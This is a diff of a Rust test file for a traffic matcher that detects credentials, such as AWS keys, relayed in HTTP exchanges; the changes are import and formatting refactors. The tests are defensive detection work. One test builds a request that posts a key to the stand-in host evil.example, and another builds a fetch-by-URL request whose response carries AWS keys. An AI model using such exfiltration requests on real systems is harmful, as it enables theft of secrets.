@@ -1,8 +1,8 @@
 //! Tests of the matcher on hand-made exchanges: every provider, every signal of one exchange, and what must stay silent.
 
 use super::*;
+use crate::conn::Proto;
 use crate::detect::{CandidateKind, Seen, Spot};
-use crate::observe::Proto;
 use crate::proto::http::{Body, Head, Message, Start, Version as HttpVersion};
 
 /// A message from its text; lines may end in `\n` alone.
@@ -39,7 +39,7 @@ fn message(text: &str) -> Message {
 
 fn conn(server: &str) -> Conn {
     let server: std::net::SocketAddr = server.parse().unwrap();
-    let end = |ip: IpAddr, port| observe::Endpoint { ip, port };
+    let end = |ip: IpAddr, port| conn::Endpoint { ip, port };
     Conn {
         client_ttl: Some(64),
         server_ttl: Some(64),
@@ -433,7 +433,10 @@ fn relayed_tokens_are_seen_outside_signing_headers() {
         (carries(&verdict.carried.request), carries(&verdict.carried.response))
     };
     let server = "93.184.216.34:80";
-    assert_eq!(meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server), (None, Some(Spot::Open)));
+    assert_eq!(
+        meets("GET /fetch?url=x HTTP/1.1\nHost: shop.example", &ok(&aws_keys()), server),
+        (None, Some(Spot::Open))
+    );
     let sent = |request: &str| meets(request, &ok(""), server);
     let open = (Some(Spot::Open), None);
     assert_eq!(sent(&format!("POST /drop HTTP/1.1\nHost: evil.example\n\nk={KEY}")), open);
